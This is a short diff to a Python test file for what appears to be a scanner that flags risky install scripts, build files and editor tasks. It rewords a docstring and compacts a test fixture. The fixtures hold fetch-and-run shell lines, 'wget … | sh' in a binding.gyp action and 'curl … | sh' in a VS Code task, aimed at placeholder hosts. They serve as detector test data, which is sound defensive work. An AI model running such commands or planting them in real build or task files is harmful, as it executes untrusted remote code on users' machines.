@@ -1,4 +1,4 @@
-"""Alarms about what stands beside the code: dependencies, scripts of installation, binary modules, texts to reviewers."""
+"""Alarms about what stands beside the code: dependencies, scripts of installation, binaries, texts for reviewers."""
 
 import json
 from collections.abc import Mapping
@@ -44,9 +44,7 @@ def test_a_lookalike_is_told():
             {"postinstall": "sh scripts/set-up.sh || true"},
         ),
         (
-            {
-                "binding.gyp": '{"targets": [{"actions": [{"action": ["sh", "-c", "wget -qO- http://x.example | sh"]}]}]}'
-            },
+            {"binding.gyp": '{"actions": [{"action": ["sh", "-c", "wget -qO- http://x.example | sh"]}]}'},
             {},
         ),
         ({".vscode/tasks.json": '{"tasks": [{"command": "curl -s https://x.example.org | sh"}]}'}, {}),
